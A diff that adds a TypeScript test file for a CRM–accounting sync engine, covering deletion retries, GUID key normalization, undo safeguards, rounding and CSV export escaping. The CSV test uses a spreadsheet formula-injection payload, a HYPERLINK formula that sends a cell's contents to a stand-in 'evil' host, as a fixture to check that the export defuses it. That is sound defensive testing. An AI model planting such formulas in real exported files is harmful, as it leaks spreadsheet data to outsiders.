@@ -1,0 +1,69 @@
+import { describe, expect, it } from 'vitest';
+import { roundHalfAwayFromZero } from '../../src/core/mapping';
+import { normalizeKey } from '../../src/core/normalize';
+import type { RunEntry } from '../../src/core/records';
+import { runLogToCsv } from '../../src/core/runLog';
+import { memoryHarness } from '../support/memoryHarness';
+import { DIVISION, accountId } from '../support/memoryExact';
+
+/** Defects found in review, each pinned by the scenario that showed it. */
+describe('sync engine: review findings', () => {
+  it('a deletion whose flag write failed is read again by the next incremental run', async () => {
+    const h = memoryHarness();
+    await h.engine.run('companies', { user: 'a' });
+    h.exact.remove(DIVISION, 'Account', accountId(2));
+    h.crm.reject = (_list, write) => (write.kind === 'update' && write.values.DeletedInExact === true ? 'HTTP 503 throttled' : undefined);
+    const failing = await h.engine.run('companies', { user: 'a' });
+    expect(failing.counts).toMatchObject({ failed: 1, deleted: 0 });
+    h.crm.reject = undefined;
+    const retry = await h.engine.run('companies', { user: 'a' });
+    expect(retry.counts).toMatchObject({ failed: 0, deleted: 1 });
+    const flagged = Object.values(h.crm.list('Companies').snapshot()).filter((v) => v.DeletedInExact === true);
+    expect(flagged).toHaveLength(1);
+  });
+
+  it('a CRM key written as an upper-case GUID in braces is the same record, not a duplicate', async () => {
+    expect(normalizeKey('{A0000000-0000-4000-8000-000000000001}')).toBe('a0000000-0000-4000-8000-000000000001');
+    expect(normalizeKey('{not-a-guid}')).toBe('{not-a-guid}');
+    const h = memoryHarness();
+    const id = accountId(1);
+    h.crm.list('Companies').seed({ Title: 'Bakkerij De Vries', ExactId: `{${id.toUpperCase()}}`, Phone: '+31 20 000' });
+    const run = await h.engine.run('companies', { user: 'a' });
+    expect(run.counts.deleted).toBe(0);
+    const forAccount = Object.values(h.crm.list('Companies').snapshot()).filter((v) => normalizeKey(v.ExactId) === id);
+    expect(forAccount).toHaveLength(1);
+    expect(forAccount[0].DeletedInExact ?? false).toBe(false);
+  });
+
+  it('undo refuses to remove a created item into which someone typed a value the run left empty', async () => {
+    const h = memoryHarness();
+    h.exact.upsert(DIVISION, 'Account', { ID: accountId(1), Phone: null });
+    const run = await h.engine.run('companies', { user: 'a' });
+    const list = h.crm.list('Companies');
+    const [id] = Object.entries(list.snapshot()).find(([, v]) => v.ExactId === accountId(1)) ?? [];
+    list.edit(Number(id), { Phone: '+31 6 12345678' });
+    const undo = await h.engine.undo(run.id, { user: 'a' });
+    expect(undo.status).toBe('CompletedWithErrors');
+    expect(list.items.has(Number(id))).toBe(true);
+    const log = await h.engine.readLog(undo.id);
+    const refused = log.find((e) => e.itemId === Number(id));
+    expect(refused?.action).toBe('refused');
+    expect(refused?.reason).toContain('Phone is now "+31 6 12345678"');
+  });
+
+  it('CSV cells that would run as Excel formulas are defused; negative numbers stay numbers', () => {
+    const entry = {
+      exactKey: 'k', label: '=HYPERLINK("http://evil/?"&A1,"x")', action: 'update', reason: 'changed', itemId: 1, outcome: 'written',
+      changes: [{ field: 'Title', before: -12.5, after: '@SUM(1+1)*cmd' }], problems: [], kept: [],
+    } as unknown as RunEntry;
+    const row = runLogToCsv([entry], { bom: false }).split('\r\n')[1];
+    expect(row).toBe('update,written,k,"\'=HYPERLINK(""http://evil/?""&A1,""x"")",1,Title,-12.5,\'@SUM(1+1)*cmd,changed');
+  });
+
+  it('currency and number transforms round the decimal a person reads', () => {
+    expect(roundHalfAwayFromZero(1.005, 2)).toBe(1.01);
+    expect(roundHalfAwayFromZero(2.675, 2)).toBe(2.68);
+    expect(roundHalfAwayFromZero(-1.005, 2)).toBe(-1.01);
+    expect(roundHalfAwayFromZero(1e-7, 2)).toBe(0);
+  });
+});
